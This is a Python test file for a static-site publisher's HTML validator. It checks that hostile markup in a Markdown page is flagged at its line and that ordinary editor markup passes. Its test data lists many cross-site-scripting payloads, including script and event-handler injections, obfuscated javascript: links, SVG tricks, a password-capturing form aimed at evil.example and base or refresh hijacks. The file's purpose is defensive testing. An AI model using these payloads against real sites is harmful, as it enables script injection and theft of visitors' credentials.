"""The read of a built page: what a stranger smuggles into a page is refused at its line, what an editor writes passes."""

from __future__ import annotations

import time
from pathlib import Path

import pytest
from conftest import EXTENSIONS
from markdown import Markdown

from ledger.publish import html
from ledger.publish.site import Site

#: What the site's settings switch on, and what an editor may add to them.
EXTRAS = ["abbr", "admonition", "def_list", "footnotes", "md_in_html", "pymdownx.details", "pymdownx.superfences", "pymdownx.tasklist", "pymdownx.highlight"]  # fmt: skip
SHELL = """<!doctype html>
<html lang="en" class="no-js">
  <head>
    <meta charset="utf-8"><title>Page</title>
  </head>
  <body>
    <input type="checkbox" id="__drawer">
    <article class="md-content__inner md-typeset">
{}
    </article>
  </body>
</html>
"""
BEFORE = '# Page { #page }\n\nSome words and a "quotation".\n\n'
NAMES = frozenset({"method/index.html", "assets/logo.svg", "assets/javascripts/ledger.js"})


def problems(text: str, tmp_path: Path, own: str = "https://site.example/base/") -> list[str]:
    """Return what is said of a page with the text in its middle."""
    (tmp_path / "docs").mkdir(exist_ok=True)
    (tmp_path / "docs/method.md").write_text(f"{BEFORE}{text}\n\n## After {{ #after }}\n\nMore.\n", "utf-8")
    markdown = Markdown(extensions=list(dict.fromkeys([*EXTENSIONS, *EXTRAS])))
    page = html.Page(SHELL.format(markdown.convert((tmp_path / "docs/method.md").read_text("utf-8"))))
    page.with_policy(SHELL)
    site = Site(own, NAMES, {"method/index.html": page})
    return [str(p) for p in site.problems(tmp_path, {"method/index.html": "docs/method.md"})]


HOSTILE = {
    "script": "<script>alert(1)</script>",
    "script in capitals": "<ScRiPt>alert(1)</sCrIpT>",
    "script of the site": "<script src=assets/javascripts/ledger.js></script>",
    "script as data": '<script type="application/json" src="x">1</script>',
    "script as a module": '<script type="module">import "x"</script>',
    "script with two types": '<script type="text/javascript" type="application/ld+json">alert(1)</script>',
    "script that ends for browsers only": '<script type="application/ld+json">1</script/x><b>x</b></script>',
    "script with a slash": "<script/x>alert(1)</script>",
    "handler": "<p onclick=alert(1)>x</p>",
    "handler after a slash": "<p/onclick=alert(1)>x</p>",
    "handler without a blank": '<p title="x"onclick="alert(1)">x</p>',
    "handler in capitals": '<p ONCLICK="alert(1)">x</p>',
    "handler of a picture": '<img src="../assets/logo.svg" alt="" onerror="alert(1)">',
    "name of another element": '<a name="forms">x</a>',
    "handler of details": "<details ontoggle=alert(1) open>x</details>",
    "handler in an attribute list": 'A word.\n{: onclick="alert(1)" }',
    "handler in a heading": '### Heading { onmouseover="x" }',
    "handler in a link": '[x](#page){ onfocus="x" }',
    "style attribute": '<div style="position:fixed">x</div>',
    "style in an attribute list": 'A *word*{ style="display:none" } here.',
    "style": "<style>body{display:none}</style>",
    "base": '<base href="https://evil.example/">',
    "refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "policy of one's own": '<meta http-equiv="Content-Security-Policy" content="script-src *">',
    "style sheet": "<link rel=stylesheet href=//evil.example/x.css>",
    "frame": '<iframe src="https://evil.example"></iframe>',
    "frame of a text": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "form": '<form action="https://evil.example"><input name="password"></form>',
    "field": "<input name=password>",
    "box that can be ticked": '<input type="checkbox" onchange="x">',
    "button": '<button formaction="javascript:alert(1)">x</button>',
    "object": '<object data="x"></object>',
    "embedded": '<embed src="x">',
    "mathematics": "<math><mi>x</mi></math>",
    "video": "<video autoplay></video>",
    "template": "<template><b>x</b></template>",
    "text without end": "<plaintext>",
    "field of text": "<textarea>",
    "old raw text": "<xmp><b></xmp>",
    "no script": "<noscript>x</noscript>",
    "element of one's own": "<x-y>x</x-y>",
    "title": '<title><b title="</title><script>alert(1)</script>"></b></title>',
    "end of the article": "</article><form>x</form>",
    "second article": "<article>x</article>",
    "element never closed": "<div>\n\nSwallowed.",
    "bold never closed": "<b>x",
    "end of nothing": "</section>",
    "end of the body": "</body>",
    "drawing with a script": "<svg><script>alert(1)</script></svg>",
    "drawing with a handler": "<svg onload=alert(1)></svg>",
    "drawing with HTML": "<svg><p>x</p></svg>",
    "drawing with a foreign object": "<svg><foreignObject><p>x</p></foreignObject></svg>",
    "drawing with a title that ends": "<svg><title><style><img title='</style><img src=x onerror=x>'></title></svg>",
    "drawing with an animation": '<svg><a href="#page"><set attributeName="href" to="javascript:alert(1)"/></a></svg>',
    "drawing with a link": '<svg><a href="javascript:alert(1)"><text>x</text></a></svg>',
    "drawing with an old link": '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "drawing from elsewhere": '<svg><rect fill="url(https://evil.example/#x)"/></svg>',
    "drawing from elsewhere, spelt": r'<svg><rect fill="u\72l(https://evil.example/#x)"/></svg>',
    "part from elsewhere": '<svg><use href="https://evil.example/#x"/></svg>',
    "comment of two readings": "a <!--><script>alert(1)</script>-->",
    "comment with another end": "<!-- x --!><script>alert(1)</script> -->",
    "instruction": "<?php x ?>",
    "declaration": "<!DOCTYPE x>",
    "section of XML": "<![CDATA[<script>alert(1)</script>]]>",
    "other pictures": '<img src="../assets/logo.svg" alt="" srcset="https://evil.example/x 2x">',
    "picture from elsewhere": "![x](https://evil.example/x.png)",
    "picture as data": "![x](data:image/svg+xml,x)",
    "ping": '<a href="https://a.example" ping="https://evil.example">x</a>',
    "other window": '<a href="https://a.example" target="_top">x</a>',
    "control of the theme": '<div data-md-component="search">x</div>',
    "id of the theme": "### x { #__drawer }",
    "id twice": "### x { #after }",
    "editable": "<p contenteditable>x</p>",
    "script's address": "[x](javascript:alert(1))",
    "script's address in capitals": "[x](JAVASCRIPT:alert(1))",
    "script's address with a reference": "<a href=java&#115;cript:alert(1)>x</a>",
    "script's address with a named reference": "[x](javascript&colon;alert(1))",
    "script's address with a tab": '<a href="java&Tab;script:alert(1)">x</a>',
    "script's address behind a blank": '<a href=" &#1;javascript:alert(1)">x</a>',
    "script's address by reference": "See [here][r].\n\n[r]: javascript:alert(1)",
    "data's address": "[x](data:text/html,x)",
    "other script's address": "[x](vbscript:x)",
    "file": "[x](file:///etc/passwd)",
    "plain http": "<http://evil.example/>",
    "address without its kind": "[x](//evil.example/)",
    "backslashes": "[x](\\\\\\\\evil.example)",
    "user's name": "[x](https://good.example@evil.example/)",
    "out of the site": "[x](../../../etc/passwd)",
    "no such anchor": '<a href="#none">x</a>',
    "no such page": '<a href="../none/">x</a>',
    "handler behind a tab": "<p\tonclick=alert(1)>x</p>",
    "handler behind a line": "<p\nonclick=alert(1)>x</p>",
    "handler behind an equals sign": "<p title==onclick=x>x</p>",
    "handler behind a bare value": "<p title=x'onclick=alert(1)>x</p>",
    "handler behind half a quotation": '<p title="x>y</p><p title=" onclick=alert(1) ">x</p>',
    "template mark": "{{ fig }}",
    "empty value": "<p>None</p>",
    "error": "Traceback (most recent call last)",
}


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
def test_what_must_not_be_published_is_named_at_its_line(text: str, tmp_path: Path) -> None:
    found = problems(text, tmp_path)
    assert found, text
    lines = range(5, 6 + text.count("\n"))
    assert any(p.startswith(tuple(f"docs/method.md:{n}: " for n in lines)) for p in found), found


HONEST = {
    "admonition": '!!! note "Mind *this*"\n    Words.',
    "details": '??? tip "More"\n    Words.',
    "details of one group": '<details name="panel" markdown><summary>More</summary>\n\nSome *text*.\n\n</details>',
    "details in HTML": "<details markdown><summary>More</summary>\n\nSome *text*.\n\n</details>",
    "footnotes": "A word.[^1] Another.[^1]\n\n[^1]: Its **note**.",
    "definitions": "Word\n:   What it means.\n\n:   What else.",
    "tasks": "- [ ] open\n- [x] done",
    "code": '```python title="x.py" hl_lines="1"\nprint("<script>")\n```\n\nA `<script>` and `{{ x }}`.',
    "table": "| a | b |\n| --- | ---: |\n| 1 | None of them |",
    "table in HTML": '<table><colgroup><col span="2"></colgroup><tr><th scope="col" colspan="2">a<tr><td rowspan=2>b</table>',
    "paragraphs without ends": "<p>One\n<p>Two</p>",
    "list without ends": "<ol start=3 type=a reversed><li value=4>One<li>Two</ol>",
    "small elements": "H<sub>2</sub>O, x<sup>2</sup>, <kbd>Ctrl</kbd>, <mark>m</mark>, <abbr title='World'>W</abbr>, <small>s</small>, <q cite='https://a.example/'>q</q>, <s>x</s>, <wbr>, <time datetime='2026-01-01'>then</time>",
    "abbreviation": "The HTML standard.\n\n*[HTML]: Hyper Text",
    "figure": '<figure markdown="span">\n  ![Logo](../assets/logo.svg){ width="20" loading=lazy }\n  <figcaption>Words</figcaption>\n</figure>',
    "quotation": "> Words\n>\n> > More",
    "ruby": "<ruby>漢<rp>(</rp><rt>kan</rt><rp>)</rp></ruby>",
    "languages": 'A <span lang="nl" dir="ltr" translate="no">woord</span>.',
    "Markdown in HTML": '<div class="grid cards md-overlay" id="Any_Name-1" markdown>\n\nA *word*.\n\n</div>',
    "button": "[Go](#page){ .md-button .md-button--primary }",
    "mail": "[Write](mailto:a@a.example) or <a@a.example>",
    "other window": '[x](https://a.example/){ target="_blank" rel="noopener" }',
    "links": '[x](https://a.example/a?b=1&c=2#d "Title"), [x](#after), [x](../method/#page), <https://a.example/a>',
    "comment": "<!-- more to come -->\n\n<!-- <b>a</b> - b -->",
    "tag never closed": '<a href="https://swallow.example',
    "handler in a tag never closed": "x <img src=x onerror=alert(1)",
    "less than": "So a < b and c > d, R&D, AT&T, x&y=z, &copy; 2026.",
    "script's name in words": "javascript:alert(x), onclick=x, style=y",
    "drawing": '<svg viewBox="0 0 2 2" role="img" aria-labelledby="t"><title id="t">T</title><a href="#page"><path class="x" d="M0 0h1"/></a></svg>',
    "data for search engines": '<script type="application/ld+json">{"@type": "Dataset"}</script>',
    "None in a sentence": "None of them says so.",
    "file with a blank": "[x](<../method/?a=b c>)",
}


@pytest.mark.parametrize("text", HONEST.values(), ids=HONEST)
def test_what_an_editor_writes_passes(text: str, tmp_path: Path) -> None:
    assert problems(text, tmp_path) == []


# ---- what browsers take apart in another way than it looks ----------------------------------------------

ODD = {
    "handler behind a form feed": "<p\fonclick=alert(1)>x</p>",
    "tag that swallows": '<p title="x>y</p>',
    "tag without end": "<p",
    "slash within a tag": "<p/class=x>x</p>",
    "attribute without a blank": '<p class="x"title="y">x</p>',
    "sign in a bare value": "<p title=a'b>x</p>",
    "grave accent": "<p title=`x`>x</p>",
    "attribute of a sign": '<p "x">x</p>',
    "vertical tab as a blank": "<p\vclass=x>x</p>",
    "blank of another alphabet": "<p\u00a0class=x>x</p>",
    "letter that turns into another": "<\u017fpan>x</\u017fpan>",
    "end by a letter that turns into another": "<mark>x</mar\u212a>",
    "zero in a name": "<b\0>x</b>",
    "end with an attribute": "<p>x</p class=x>",
    "end with a quotation": '<p>x</p title=">">',
    "end behind a blank": "<b>x</ b>",
    "end with a slash": "<p>x</p/>",
    "end of no name": "<b>x</></b>",
    "blank before a name": "< b>x",
    "comment at once at its end": "<!-->",
    "comment of one dash": "<!--->",
    "comment in a comment": "<!-- <!-- x --> -->",
    "comment with an exclamation mark": "<!-- x --!>",
    "comment without end": "<!-- x",
    "declaration": "<!x>",
    "second doctype": "<!doctype html>",
    "section of XML": "<svg><![CDATA[x]]></svg>",
    "instruction": "<?x?>",
    "comment in a title": "<svg><title><!-- </title> --></title></svg>",
    "closed in form only": "<b/>",
    "drawing's part closed in form only": "<svg><g class=x/></svg>",
    "text without end": "<plaintext/>",
    "comment in data": '<script type="application/ld+json"><!-- "x" --></script>',
    "script in data": '<script type="application/ld+json">"<script"</script>',
    "data with another end": '<script type="application/ld+json">1</script x></script>',
    "data closed in form only": '<script type="application/ld+json"/>1',
    "data without end": '<script type="application/ld+json">1',
}
PLAIN = {
    "capitals": '<P CLASS="x">x</P>',
    "blanks of all kinds": "<p\tclass = 'x'\n\ftitle=y\r\n>x</p\n>",
    "signs in a value": "<p title=\"a > b <i> ' -- '\">x</p>",
    "bare value with a slash": "<a href=../method/>x</a>",
    "value of nothing": "<p title=\"\" class='' lang>x</p>",
    "closed void": "<br/><br /><hr\n/>",
    "empty comment": "<!---->",
    "comment with tags": "<!-- <b> - </p> -->",
    "long number": f"&#{'0' * 5_000}97; &#{'9' * 5_000}; &#x{'f' * 5_000};",
    "long number in a value": f'<p title="&#{"9" * 5_000};">x</p>',
    "half a reference": "a &amp b &# c &#x d & e",
}


@pytest.mark.parametrize("text", ODD.values(), ids=ODD)
def test_what_browsers_may_take_apart_in_another_way_is_refused(text: str) -> None:
    assert html.Page(SHELL.format(text)).findings


@pytest.mark.parametrize("text", PLAIN.values(), ids=PLAIN)
def test_what_every_browser_takes_apart_alike_passes(text: str) -> None:
    assert html.Page(SHELL.format(text)).findings == []


def test_a_page_of_signs_is_read_in_time() -> None:
    for sign in ("<", "<!--", "<a x=", '<a x="', "<a x='\"", "<a " + "x " * 50, "</", "&#9", "<script>", "-->", "<b>"):
        start = time.process_time()
        html.Page(sign * 20_000)
        assert time.process_time() - start < 5


# ---- the policy --------------------------------------------------------------------------------------

START = '<!doctype html>\n<html lang="en"><head>\n<meta charset="utf-8">'
SCRIPTS = {
    "data": ('<script type="application/json">{}</script>', False),
    "file": ('<script src="assets/javascripts/x.js"></script>', False),
    "other": ("<script>y()</script>", True),
    "data in name only": ('<script data-type="application/json">y()</script>', True),
    "of two types": ('<script type="module" type="application/json">y()</script>', True),
    "file in name only": ("<script data-src=x>y()</script>", True),
    "odd end": ("<script>y()</script foo>", True),
    "no end": ("<script>y()", True),
    "ends at once": ("<script/>y()</script>", True),
    "capitals": ("<SCRIPT>y()</SCRIPT>", True),
    "behind a comment of two readings": ("<!--><script>y()</script>-->", True),
    "behind a title of two readings": ("<title></title ><script>y()</script></title>", True),
}


@pytest.mark.parametrize(("body", "is_strange"), SCRIPTS.values(), ids=SCRIPTS)
def test_a_script_in_a_page(body: str, *, is_strange: bool) -> None:
    page = html.Page(f"{START}</head><body>{body}</body></html>")
    page.with_policy(START)
    assert bool(page.findings) is is_strange


def test_the_policy_stands_first() -> None:
    added = html.Page().with_policy(f"{START}<link>")
    assert added.startswith(f'{START}<meta http-equiv="Content-Security-Policy" content="default-src \'none\';')
    assert added.endswith("script-src 'self'\"><link>")
    assert "unsafe" not in added


@pytest.mark.parametrize(
    "start",
    [
        '<html><head><meta charset="utf-8">',
        'x<!doctype html><html><head><meta charset="utf-8">',
        '<!doctype html><html><head></head><body><meta charset="utf-8">',
        '<!doctype html><html><head>x<meta charset="utf-8">',
        '<!doctype html><html><head><script src="assets/javascripts/x.js"></script><meta charset="utf-8">',
        '<!doctype html><html><head><title><meta charset="utf-8">',
    ],
)
def test_a_page_on_which_the_policy_would_come_too_late(start: str) -> None:
    page = html.Page()
    assert page.with_policy(start) == start
    assert page.findings
